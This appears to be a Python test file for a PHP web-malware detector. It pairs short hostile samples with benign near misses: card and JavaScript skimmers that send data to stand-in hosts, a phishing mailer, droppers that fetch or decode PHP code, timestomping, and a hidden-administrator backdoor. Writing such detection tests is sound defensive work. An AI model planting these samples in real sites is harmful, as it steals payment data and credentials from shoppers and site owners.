"""Non-shell malware families: skimmers, phishing mailers, droppers, track covering.
Each with a small sample written here and a benign near miss."""
from newfilewatch.detect import analysis, behaviour
from newfilewatch.detect.engine import Engine


def found(src):
    return {r for r, _p, _t in behaviour.run(analysis.Analysis(src).run())}


def suspicious(src):
    return Engine(keywords=[]).analyse(src, 'x.php').suspicious


def test_card_skimmer_mails_card_fields():
    src = (b"<?php if (isset($_POST['billing'])) { $d = $_POST['payment']['cc_number'] . '|' ."
           b" $_POST['payment']['cc_cid']; @mail('drop@x.tld', 'new', $d); }")
    assert 'php.steal.card_data' in found(src)
    assert suspicious(src)


def test_card_fields_to_a_url_through_a_variable():
    src = (b"<?php $c = $_REQUEST['card_number']; $q = http_build_query(['c' => $c]);"
           b"$u = 'http://stats.example/p?' . $c; file_get_contents($u);")
    assert 'php.steal.card_data' in found(src)


def test_payment_gateway_that_checks_the_card_is_not_a_skimmer():
    src = (b"<?php $n = $_POST['cc_number']; if (!luhn($n)) { die('bad'); }"
           b"$gateway->charge($n, $_POST['cvv']); file_put_contents('/var/log/pay.log', date('c'));")
    assert found(src) == set()


def test_phishing_kit_mails_passwords_with_the_victims_address():
    src = (b"<?php $ip = getenv('REMOTE_ADDR'); $m = 'User: ' . $_POST['email'] . ' Pass: ' ."
           b" $_POST['password'] . ' IP: ' . $_SERVER['REMOTE_ADDR']; mail($to, 'Rezult', $m);"
           b" header('Location: https://bank.example/');")
    assert {'php.steal.credentials', 'php.steal.victim_profile'} <= found(src)
    assert suspicious(src)


def test_login_form_that_hashes_the_password_is_not_a_kit():
    src = (b"<?php $h = password_hash($_POST['password'], PASSWORD_DEFAULT);"
           b" mail($_POST['email'], 'Welcome', 'Your account is ready');")
    assert found(src) == set()


def test_dropper_writes_decoded_php():
    src = b"<?php file_put_contents('cache.php', base64_decode('PD9waHAgZXZhbCgkX1BPU1RbJ3gnXSk7'));"
    assert 'php.dropper.writes_code' in found(src)
    assert suspicious(src)


def test_writing_a_template_of_html_is_not_dropping_code():
    src = b"<?php file_put_contents('page.html', '<html><body>Hello</body></html>');"
    assert found(src) == set()


def test_htaccess_rewrite_to_a_doorway():
    src = b"<?php $h = \"RewriteEngine On\\nRewriteRule ^(.*)\\.html$ door.php?k=$1 [L]\\n\"; file_put_contents('.htaccess', $h);"
    assert 'php.dropper.server_config' in found(src)


def test_writing_an_ordinary_config_file_is_not_server_config():
    src = b"<?php file_put_contents('settings.ini', \"[main]\\nname = x\\n\");"
    assert found(src) == set()


def test_self_delete_and_timestomp():
    src = b"<?php touch('x.php', filemtime('index.php')); unlink(__FILE__);"
    assert {'php.dropper.self_delete', 'php.dropper.timestomp'} <= found(src)


def test_touching_a_cache_file_now_is_not_timestomping():
    src = b"<?php touch($cache); unlink($tmp);"
    assert found(src) == set()


def test_loader_writes_fetched_code_into_a_php_file():
    src = (b"<?php function get($u) { $c = curl_init($u); return curl_exec($c); }\n"
           b"$t = get('https://paste.example/raw/x');\n"
           b"file_put_contents($_SERVER['DOCUMENT_ROOT'] . '/wp-x.php', $t);")
    assert 'php.dropper.fetched_php' in found(src)
    assert suspicious(src)


def test_caching_a_fetched_feed_is_not_a_loader():
    src = (b"<?php $feed = file_get_contents('https://example.org/feed.xml');\n"
           b"file_put_contents(__DIR__ . '/cache/feed.xml', $feed);")
    f = found(src)
    assert 'php.dropper.fetched_php' not in f
    assert not suspicious(src)


def test_backdoor_gate_on_a_hard_coded_digest():
    src = b"<?php if (md5($_COOKIE['k']) === '5f4dcc3b5aa765d61d8327deb882cf99') { echo 'ok'; }"
    assert 'php.backdoor.hardcoded_key' in found(src)


def test_digest_compared_with_a_stored_value_is_not_a_gate():
    src = b"<?php if (md5($_POST['p']) === $row['hash']) { login(); } $v = '5f4dcc3b5aa765d61d8327deb882cf99';"
    assert 'php.backdoor.hardcoded_key' not in found(src)


def test_include_of_an_icon_spelled_in_escapes():
    src = b'<?php @include "\\057ho\\155e/u\\163er/public_html/wp-includes/images/\\146avicon_1.ico";'
    assert 'php.include.media_file' in found(src)


def test_include_of_a_plain_php_file_is_not_hidden():
    src = b"<?php include 'wp-includes/version.php'; require_once __DIR__ . '/lib/a.php';"
    assert found(src) == set()


def test_request_data_logged_into_an_image_named_file():
    src = (b"<?php $fp = fopen('media/wysiwyg/cartcheckout.jpg', 'a+');\n"
           b"$n = $_COOKIE['currentname']; fwrite($fp, $n . \"\\n\"); fclose($fp);")
    assert 'php.steal.hidden_log' in found(src)


def test_request_data_logged_into_a_log_file_is_not_hidden():
    src = b"<?php file_put_contents('logs/access.log', $_SERVER['REQUEST_URI'] . \"\\n\", FILE_APPEND);"
    assert 'php.steal.hidden_log' not in found(src)


def test_skimmer_reading_cards_through_framework_accessors():
    src = (b"<?php class SaveOrder { function execute() {\n"
           b"  $pay = $this->getRequest()->getParam('payment', []);\n"
           b"  $row = implode('|', [$pay['cc_number'], $pay['cc_cid']]);\n"
           b"  @file_put_contents(BP . '/pub/media/.c.jpg', base64_encode(strrev($row)), FILE_APPEND); } }")
    assert 'php.steal.card_data' in found(src)


def test_gateway_posting_the_card_to_its_api_is_not_a_skimmer():
    src = (b"<?php $ch = curl_init('https://api.gateway.example/v1/charges');\n"
           b"curl_setopt($ch, CURLOPT_POSTFIELDS, http_build_query(['number' => $this->request->post['cc_number']]));\n"
           b"curl_exec($ch);")
    assert 'php.steal.card_data' not in found(src)


def test_password_of_a_login_hook_mailed_to_a_fixed_address():
    src = (b"<?php add_filter('authenticate', function ($user, $username, $password) {\n"
           b"  @mail('collector@mailbox.example', 'wp', $username . ':' . $password); return $user; }, 1, 3);")
    assert 'php.steal.credentials' in found(src)


def test_welcome_mail_to_the_user_is_not_stealing():
    src = b"<?php function welcome($email, $password) { mail($email, 'Welcome', 'Your password: ' . $password); }"
    assert 'php.steal.credentials' not in found(src)


def test_htaccess_rules_prepended_to_the_old_file():
    src = (b"<?php $r = \"RewriteEngine On\\nRewriteRule ^(.*)\\\\.html$ /d.php?p=$1 [L]\\n\";\n"
           b"$ht = $_SERVER['DOCUMENT_ROOT'] . '/.htaccess'; $old = file_get_contents($ht);\n"
           b"file_put_contents($ht, $r . $old);")
    assert 'php.dropper.server_config' in found(src)


def test_cloaking_for_crawlers():
    src = (b"<?php $ua = $_SERVER['HTTP_USER_AGENT']; if (stripos($ua, 'googlebot') !== false) {\n"
           b"  echo file_get_contents('http://feed.example/spam?k=1'); exit; }")
    assert 'php.seo.cloaking' in found(src)


def test_skipping_analytics_for_crawlers_is_not_cloaking():
    src = (b"<?php if (stripos($_SERVER['HTTP_USER_AGENT'], 'googlebot') === false) {\n"
           b"  echo '<script src=\"/stats.js\"></script>'; }")
    assert 'php.seo.cloaking' not in found(src)


def test_a_template_method_named_include_is_not_an_include():
    src = b"<?= $this->include('assets/images/icon-minus.svg'); ?>"
    assert found(src) == set()


def test_dropper_decoding_in_a_loop_and_back_dating():
    src = (b"<?php $parts = array('3c3f70687020', '406576616c28', '245f504f53545b', '2770275d293b');\n"
           b"$out = ''; foreach ($parts as $p) { $out .= hex2bin($p); }\n"
           b"$f = $dir . '/about.php'; file_put_contents($f, $out); touch($f, time() - 86400 * 400);")
    f = found(src)
    assert {'php.dropper.writes_code', 'php.dropper.timestomp'} <= f
    assert suspicious(src)


def test_loader_url_in_a_class_constant_written_to_php():
    src = (b"<?php class Cron { const U = 'http://check.example/p.php?h=';\n"
           b"function run() { $p = @file_get_contents(self::U . urlencode($h));\n"
           b"$d = BP . '/pub/media/.thumbs.php'; @file_put_contents($d, base64_decode(substr($p, 3))); } }")
    assert 'php.dropper.fetched_php' in found(src)


def test_fetched_code_written_to_a_temp_file_and_included():
    src = (b"<?php $s = @file_get_contents(base64_decode('aHR0cDovL3guZXhhbXBsZS9zLnR4dA=='));\n"
           b"$t = tempnam(sys_get_temp_dir(), 'x'); file_put_contents($t, $s); include $t; @unlink($t);")
    assert 'php.code.fetched_code' in found(src)


def test_downloading_a_zip_to_a_temp_file_is_not_running_it():
    src = (b"<?php $z = file_get_contents('https://downloads.example/plugin.zip');\n"
           b"$t = tempnam(sys_get_temp_dir(), 'p'); file_put_contents($t, $z); $zip->open($t);")
    assert found(src) == set()


def test_hidden_administrator_creator():
    src = (b"<?php add_action('init', function () { if (isset($_GET['k']) && $_GET['k'] === 'x1') {\n"
           b"  $id = wp_create_user('support', 'pw', 's@mailbox.example'); $u = new WP_User($id);\n"
           b"  $u->set_role('administrator'); } });")
    assert 'php.backdoor.admin_account' in found(src)


def test_admin_page_creating_an_administrator_checks_capabilities():
    src = (b"<?php function add_admin() { if (!current_user_can('create_users')) return;\n"
           b"  $id = wp_create_user($_POST['login'], $_POST['pass'], $_POST['mail']);\n"
           b"  (new WP_User($id))->set_role('administrator'); }")
    assert 'php.backdoor.admin_account' not in found(src)


def test_reflection_call_by_built_name():
    src = (b"<?php $n = strrev('cexe_llehs'); $rf = new ReflectionFunction($n);\n"
           b"$out = $rf->invokeArgs(array(base64_decode($_POST['al'])));")
    assert 'php.exec.request_input' in rules_of(src)


def rules_of(src):
    return {f.rule for f in analysis.Analysis(src).run().findings}


def test_javascript_skimmer_in_a_checkout_page():
    src = (b"<?php if (strpos($_SERVER['REQUEST_URI'], 'checkout') !== false) { ?>\n<script>\n"
           b"function grab(){ var o = {}; document.querySelectorAll('input').forEach(function(e){ o[e.name]=e.value; });\n"
           b"  if (JSON.stringify(o).match(/card|cvv/i)) { var i = new Image();\n"
           b"  i.src = 'https://cdn.example/g.php?d=' + btoa(JSON.stringify(o)); } }\n</script>\n<?php } ?>")
    assert 'js.skimmer' in found(src)


def test_checkout_script_posting_to_its_own_gateway_is_not_a_skimmer():
    src = (b"<script>document.querySelectorAll('input.card-number').forEach(function(e){ mask(e); });\n"
           b"fetch('/checkout/pay', {method: 'POST', body: JSON.stringify({cvv: 1})});</script>")
    assert found(src) == set()


def test_redirect_script_for_visitors_from_search_engines():
    src = (b"<?php $ref = $_SERVER['HTTP_REFERER'] ?? ''; if (stripos($ref, 'google.') === false &&\n"
           b"  stripos($ref, 'bing.') === false) { return; }\n"
           b"echo \"<script>window.location = atob('aHR0cDovL3guZXhhbXBsZS8=');</script>\";")
    assert 'php.seo.cloaking' in found(src)


def test_whole_request_encoded_and_posted_away():
    src = (b"<?php $d = base64_encode(json_encode(array('r' => $_REQUEST, 'ip' => $_SERVER['REMOTE_ADDR'])));\n"
           b"$ch = curl_init(); curl_setopt($ch, CURLOPT_URL, 'http://stats.example/o.php');\n"
           b"curl_setopt($ch, CURLOPT_POSTFIELDS, http_build_query(array('data' => $d))); curl_exec($ch);")
    assert {'php.steal.whole_request', 'php.steal.victim_profile'} <= found(src)
    assert suspicious(src)


def test_debug_log_of_the_post_is_not_a_sniffer():
    src = b"<?php file_put_contents(__DIR__ . '/debug.log', print_r($_POST, true), FILE_APPEND);"
    assert 'php.steal.whole_request' not in found(src)
